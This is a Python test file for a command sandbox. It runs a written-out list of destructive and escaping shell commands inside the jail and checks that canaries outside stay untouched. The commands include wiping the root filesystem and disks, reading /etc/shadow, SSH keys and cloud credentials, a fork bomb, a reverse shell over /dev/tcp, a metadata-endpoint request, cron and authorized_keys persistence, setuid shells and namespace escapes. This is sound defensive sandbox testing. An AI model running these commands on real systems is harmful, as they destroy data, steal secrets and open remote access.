"""Commands that would do harm, run for real in the jail, with canaries outside.

A short list of our own and what the policy allows because the jail holds it always run. Where
DANGEROUS_SAMPLES names a folder with a file dangerous.txt (lines of category, source and command, separated
by tabs; U+2424 stands for a newline), its commands are run too.
"""

import asyncio
import contextlib
import hashlib
import os
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator, Sequence
from pathlib import Path

import psutil
import pytest

from shared.sandbox import Limits, check_jail, run_command
from shared.sandbox.snapshots import Snapshots
from tests.support.policy_commands import HELD

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the jail needs Linux")

SAMPLES = os.environ.get("DANGEROUS_SAMPLES", "")
SECONDS = 2.0
AT_ONCE = 2
CHUNK = 25
BOUNDS = Limits(cpu_seconds=4, file_bytes=50 << 20, processes=100, memory_bytes=512 << 20)

OWN = r"""
rm -rf / --no-preserve-root
rm -rf ~ ~/.ssh "$HOME"/..; cd / && rm -rf *
find / -xdev -type f -newer /etc/hostname -delete
chmod -R 777 /; chown -R 1000 / 2>&1
dd if=/dev/zero of=/dev/sda bs=1M; mkfs.ext4 /dev/sda1; wipefs -a /dev/sda
cat /etc/shadow /root/.ssh/id_rsa ~/.aws/credentials /proc/*/environ
cat "$CANARY_FILE"; cat /proc/1/root/etc/shadow; ls -la /proc/1/cwd/
:(){ :|:& };:
x=a; while :; do x=$x$x; done
while :; do head -c 10M /dev/urandom > $RANDOM; done
bash -i >& /dev/tcp/127.0.0.1/4222 0>&1
exec 3<>/dev/tcp/169.254.169.254/80; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3
curl -s --unix-socket /var/run/docker.sock http://x/containers/json
echo '* * * * * root id' > /etc/cron.d/x; crontab -l; echo id >> ~/.bashrc
echo k >> /root/.ssh/authorized_keys
echo '|/tmp/x' > /proc/sys/kernel/core_pattern; echo b > /proc/sysrq-trigger; sysctl -w kernel.panic=1
kill -9 -1; killall5 -9; pkill -9 .
setsid nohup sh -c 'while :; do sleep 1; done' & disown
mount --bind / /mnt; unshare -Urm sh -c 'mount -t tmpfs x /usr'; nsenter -t 1 -a id; chroot / id
python3 -c 'import ctypes; c = ctypes.CDLL(None); print(c.setuid(0), c.unshare(1 << 28), c.ptrace(16, 1))'
perl -e 'use Socket; socket(S, 16, 3, 0) and print "netlink"; socket(S, 40, 1, 0) and print "vsock"'
cp /bin/sh ./sh && chmod 4755 ./sh && ls -l ./sh; chmod 6777 .; install -m 4755 /bin/sh ./root
insmod ./x.ko; modprobe dummy; kexec -l /boot/vmlinuz; swapoff -a; date -s 1999-01-01; hostname evil
reboot -f
ln -s / all; ls all/root/; cat all/etc/shadow; tar cf out.tar all/ ; git config --global core.pager 'id'
"""


class Canary:
    """What lies outside the jail: files open to everybody, a process, sockets, the machine's own settings."""

    def __init__(self, folder: Path) -> None:
        self.secret = f"canary-{uuid.uuid4().hex}"
        self.folder = folder / "canary"
        self.folder.mkdir()
        for name in ("secret", "file", "sub/file"):
            path = self.folder / name
            path.parent.mkdir(exist_ok=True)
            path.write_text(self.secret)
            path.chmod(0o666)
        for path in (self.folder, self.folder / "sub"):
            path.chmod(0o777)
        self.process = subprocess.Popen(
            ["sleep", "3600"], env={"SECRET": self.secret, "PATH": os.environ["PATH"]}
        )
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.setblocking(False)
        self.file_socket = socket.socket(socket.AF_UNIX)
        self.file_socket.bind(str(self.folder / "socket"))
        self.file_socket.listen()
        self.file_socket.setblocking(False)
        (self.folder / "socket").chmod(0o777)
        self.before = self.look()

    def look(self) -> dict[str, str]:
        """The state of everything outside, by name."""
        seen = {str(path): _state(path) for path in sorted(self.folder.rglob("*"))}
        places = [
            Path("/etc"),
            Path("/etc/cron.d"),
            Path("/var/spool/cron"),
            Path("/usr"),
            Path("/usr/bin"),
            Path("/"),
        ]
        places += [
            Path("/usr/local/bin"),
            Path("/root"),
            Path("/boot"),
            Path("/lib/systemd/system"),
        ]
        seen |= {f"list {place}": _listing(place) for place in places}
        files = [
            "/etc/passwd",
            "/etc/shadow",
            "/etc/hosts",
            "/etc/crontab",
            "/etc/sudoers",
            "/etc/ld.so.preload",
        ]
        files += [
            str(Path.home() / name) for name in (".bashrc", ".profile", ".ssh/authorized_keys", ".gitconfig")
        ]
        seen |= {name: _state(Path(name)) for name in files}
        kernel = [path for path in sorted(Path("/proc/sys/kernel").iterdir()) if path.is_file()]
        moving = {"ns_last_pid", "random", "pty", "tainted"}
        seen |= {str(path): _state(path) for path in kernel if path.name not in moving}
        # Other programs of the machine may mount elsewhere meanwhile.
        mounts = [
            line for line in Path("/proc/self/mounts").read_text().splitlines() if line.split()[1] in OURS
        ]
        seen["mounts"] = "\n".join(mounts)
        seen["swaps"] = Path("/proc/swaps").read_text()
        seen["host"] = socket.gethostname()
        seen["process"] = str(self.process.poll())
        for name, listening in (("tcp", self.server), ("unix", self.file_socket)):
            with contextlib.suppress(BlockingIOError):
                listening.accept()[0].close()
                seen[f"connection over {name}"] = "yes"
        clock = time.time() - time.monotonic()
        assert abs(clock - CLOCK) < 5, "the clock was set"
        return seen

    def close(self) -> None:
        self.process.kill()
        self.process.wait()
        self.server.close()
        self.file_socket.close()


OURS = {
    "/",
    *(
        f"/{name}"
        for name in ("bin", "boot", "dev", "etc", "home", "mnt", "proc", "root", "sys", "tmp", "usr")
    ),
}
CLOCK = time.time() - time.monotonic()


def _state(path: Path) -> str:
    try:
        info = path.lstat()
        text = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
    except OSError as error:
        return str(error)
    return f"{info.st_mode} {info.st_uid} {info.st_gid} {text}"


def _listing(place: Path) -> str:
    try:
        info = place.stat()
        return f"{info.st_mode} {info.st_uid} {sorted(path.name for path in place.iterdir())}"
    except OSError as error:
        return str(error)


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Canary]:
    it = Canary(tmp_path)
    yield it
    it.close()


def read_samples() -> list[str]:
    file = Path(SAMPLES, "dangerous.txt")
    if not SAMPLES or not file.exists():
        return []
    rows = [
        line.split("\t", 2) for line in file.read_text().splitlines() if line and not line.startswith("#")
    ]
    return [row[2].replace("␤", "\n") for row in rows if len(row) == 3]


def in_chunks(commands: Sequence[str]) -> list[Sequence[str]]:
    return [commands[start : start + CHUNK] for start in range(0, len(commands), CHUNK)]


async def run_all(commands: Sequence[str], canary: Canary, folder: Path) -> None:
    assert await check_jail() == ""
    turn = asyncio.Semaphore(AT_ONCE)

    async def run(number: int, command: str) -> None:
        workspace = folder / f"workspace{number}"
        (workspace / "src").mkdir(parents=True)
        (workspace / "src" / "main.py").write_text("print(1)\n")
        env = {"CANARY_FILE": str(canary.folder / "secret")}
        async with turn:
            result = await run_command(
                ["bash", "-c", command],
                cwd=workspace,
                timeout=SECONDS,
                writable=[workspace],
                env=env,
                limits=BOUNDS,
                stop_signal=9,
            )
        assert canary.secret not in result.output, command
        assert not shadow & set(result.output.splitlines()), command

    shadow = secret_lines()
    await asyncio.gather(*(run(number, command) for number, command in enumerate(commands)))
    after = canary.look()
    changed = {
        name: (state, after.get(name)) for name, state in canary.before.items() if after.get(name) != state
    }
    assert not changed, (changed, commands)
    assert set(after) == set(canary.before), commands
    assert not left_over(folder), commands
    rights = [path for path in folder.rglob("*") if not path.is_symlink() and path.stat().st_mode & 0o6000]
    assert not rights


def secret_lines() -> set[str]:
    with contextlib.suppress(OSError):
        return {line for line in Path("/etc/shadow").read_text().splitlines() if line}
    return set()


def left_over(folder: Path) -> list[str]:
    found = []
    for process in psutil.process_iter():
        with contextlib.suppress(psutil.Error):
            if process.cwd().startswith(str(folder)):
                found.append(" ".join(process.cmdline()))
    return found


async def test_what_would_do_harm_does_none(canary, tmp_path):
    await run_all([line for line in OWN.splitlines() if line], canary, tmp_path)


def held(*kinds: str) -> list[str]:
    return [command for kind in kinds or HELD for command in HELD[kind]]


@pytest.mark.parametrize(
    "commands", in_chunks(held()), ids=lambda commands: hashlib.sha256(str(commands).encode()).hexdigest()[:8]
)
async def test_what_the_policy_leaves_to_the_jail_does_no_harm(commands, canary, tmp_path):
    await run_all(commands, canary, tmp_path)


async def test_what_is_done_to_the_workspace_is_brought_back(tmp_path):
    folder = tmp_path / "workspace"
    (folder / "src").mkdir(parents=True)
    for name in ("app.py", "pyproject.toml", "guard.sh", "src/a.py", "src/b.c"):
        (folder / name).write_text(f"# {name}\n")
    make = ["bash", "-c", "git init -q && git add -A"]
    assert (await run_command(make, cwd=folder, timeout=20, writable=[folder])).exit_code == 0
    before = _tree(folder)
    snapshots = Snapshots(folder, tmp_path / "snapshots")
    changed = 0
    for command in [*held("snapshot"), "rm -rf src .git; rm -f *", "git rm -rfq . ; git reset -q --hard"]:
        with snapshots.changing(command, "test"):
            argv = ["bash", "-c", command]
            await run_command(argv, cwd=folder, timeout=5, writable=[folder], limits=BOUNDS)
        if _tree(folder) != before:
            changed += 1
            snapshots.undo()
        assert _tree(folder) == before, command
    assert changed > 20


def _tree(folder: Path) -> dict[str, str]:
    """What undo brings back of every path: kind, rights and content."""
    return {str(path): _state(path) for path in sorted(folder.rglob("*"))}


@pytest.mark.skipif(not read_samples(), reason="DANGEROUS_SAMPLES names no folder with a file dangerous.txt")
@pytest.mark.parametrize(
    "commands",
    in_chunks(read_samples()),
    ids=lambda commands: hashlib.sha256(str(commands).encode()).hexdigest()[:8],
)
async def test_the_dangerous_samples_do_no_harm(commands, canary, tmp_path):
    await run_all(commands, canary, tmp_path)
